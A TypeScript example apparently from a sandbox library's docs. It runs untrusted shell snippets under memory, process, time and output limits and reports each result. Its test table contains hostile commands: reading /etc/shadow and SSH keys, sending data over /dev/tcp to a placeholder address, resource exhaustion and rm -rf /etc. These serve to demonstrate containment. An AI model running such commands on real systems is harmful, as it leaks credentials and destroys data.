/**
 * `npx tsx examples/untrusted.ts`: code that somebody else, or a model, wrote, run with limits: what it may
 * take, how long, how much it may say, what it sees of this machine and of the network. What it made is
 * looked at before anything of it is kept.
 */
import { Kernel, OutputLimitError, type RunResult } from '@sandbox/kernel';
import { hostfs, memfs, overlay, tmpfs } from '@sandbox/vfs';
import { Volume } from 'memfs';

const MiB = 2 ** 20;

/** Pieces of code as they come in; each is to leave its answer in /work/answer. */
const SNIPPETS: Record<string, string> = {
  'does what was asked': 'sort -n numbers | tail -n 1 > answer',
  'looks around': 'cat /etc/shadow /root/.ssh/* > answer 2>/dev/null || echo "nothing to see" > answer',
  'calls home': 'exec 3<>/dev/tcp/192.0.2.1/80 && cat answer >&3',
  'never ends': 'while :; do :; done',
  'takes all memory': 'tail /dev/zero',
  'starts too many': 'exec sh -c "for i in 1 2 3 4 5 6 7 8 9 10 11 12; do sleep 1 & done"',
  'says too much': 'cat /dev/zero',
  'removes everything': 'rm -rf /etc /work/numbers 2>/dev/null; echo gone > answer',
};

/**
 * A fresh machine for one piece of code: a few directories of this one's programs, its own input and nothing
 * else.
 */
async function machine(files: Volume): Promise<Kernel> {
  const programs = { readOnly: true } as const;
  return Kernel.create({
    root: tmpfs({ size: MiB }),
    mounts: {
      '/usr': hostfs('/usr', programs),
      '/work': overlay({ lower: memfs(files), upper: tmpfs({ size: 8 * MiB }) }),
      '/tmp': tmpfs({ size: 8 * MiB }),
    },
    limits: { memory: 64 * MiB, processes: 10, openFiles: 256, files: 2000 },
    env: { PATH: '/usr/bin', HOME: '/work' },
    user: { uid: 1000 },
  });
}

const files = Volume.fromJSON({ '/numbers': '7\n1\n42\n19\n' });

function ending({ code, signal, timedOut }: RunResult): string {
  if (timedOut) return 'out of time';
  return signal === null ? `exit status ${code}` : `killed by ${signal}`;
}

for (const [name, code] of Object.entries(SNIPPETS)) {
  await using kernel = await machine(files);
  // Loaders and interpreters are named so; on most machines these are links.
  for (const dir of ['bin', 'lib', 'lib64']) await kernel.fs.symlink(`usr/${dir}`, `/${dir}`);
  let killedForMemory = false;
  kernel.on('oom-kill', () => {
    killedForMemory = true;
  });
  let how: string;
  try {
    const result = await kernel.run('/usr/bin/bash', ['-c', code], {
      cwd: '/work',
      timeout: 3000,
      maxBuffer: 64 * 1024,
      capabilities: {},
      noNewPrivileges: true,
    });
    how = killedForMemory ? 'out of memory' : ending(result);
  } catch (error) {
    if (!(error instanceof OutputLimitError)) throw error;
    how = 'too much output';
  }
  const answer = await kernel.fs.readFile('/work/answer', 'utf8').catch(() => null);
  const changes = (await kernel.fs.diff('/work')).map(({ path, kind }) => `${kind} ${path}`);
  console.log(
    `${name}: ${how}; answer ${JSON.stringify(answer)}; ${changes.join(', ') || 'nothing changed'}`,
  );
}
// What was handed in is as it was.
console.log(files.toJSON());
